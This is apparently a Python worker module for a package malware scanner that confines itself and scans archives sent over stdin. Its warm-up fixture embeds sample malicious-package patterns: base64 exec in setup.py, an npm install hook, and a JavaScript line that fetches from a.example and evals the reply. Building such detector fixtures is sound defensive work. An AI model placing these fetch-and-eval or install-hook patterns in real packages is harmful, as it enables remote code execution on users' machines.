"""The worker process: one request after the other from standard input, answers on standard output, nothing else.

A frame is 4 bytes length and JSON, then 8 bytes length and raw bytes (the artifact; empty in answers), big-endian.
"""

from __future__ import annotations

import io
import json
import logging
import os
import struct
import sys
import tarfile
from pathlib import Path
from typing import Any, BinaryIO

from pumpkin.adapters.scanner.confine import confine
from pumpkin.analysis import packs, static

_WARM = {
    "a-1/setup.py": b"import base64, os\nexec(base64.b64decode('cGFzcw=='))\nos.system('ls')\n",
    "a-1/package.json": b'{"name": "a", "scripts": {"install": "node b.js"}}',
    "a-1/b.js": b"require('https').get('https://a.example/', r => r.on('data', d => eval(d)))\n",
    "a-1/PKG-INFO": b"Metadata-Version: 2.1\nName: a\nVersion: 1\n",
}


def main(packs_folder: str) -> None:
    """Read the rules, warm up, give up all rights, then serve until the input ends."""
    requests = os.fdopen(os.dup(0), "rb", buffering=0)
    answers = os.fdopen(os.dup(1), "wb", buffering=0)
    os.dup2(2, 1)
    logging.basicConfig(level=logging.ERROR, stream=sys.stderr)
    rules = packs.load(Path(packs_folder)) if packs_folder else []
    static.scan(_warm_archive(), "a-1.tar.gz", packs=rules)
    missing = confine()
    reduced = f"reduced: {', '.join(missing)}" if missing else "full"
    _send(answers, {"ready": True, "isolation": reduced, "rules": static.ruleset(rules)})
    buffered = io.BufferedReader(requests, 1 << 16)
    while (frame := _receive(buffered)) is not None:
        request, data = frame
        _send(answers, static.scan(data, request["name"], request.get("ecosystem", ""), packs=rules).pack())


def _receive(stream: BinaryIO) -> tuple[dict[str, Any], bytes] | None:
    head = stream.read(4)
    if len(head) < 4:
        return None
    request = json.loads(stream.read(struct.unpack(">I", head)[0]))
    return request, stream.read(struct.unpack(">Q", stream.read(8))[0])


def _send(stream: Any, answer: dict[str, Any]) -> None:
    body = json.dumps(answer).encode()
    frame = memoryview(struct.pack(">I", len(body)) + body)
    while frame:
        frame = frame[stream.write(frame) :]


def _warm_archive() -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as archive:
        for path, data in _WARM.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return made.getvalue()


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "")
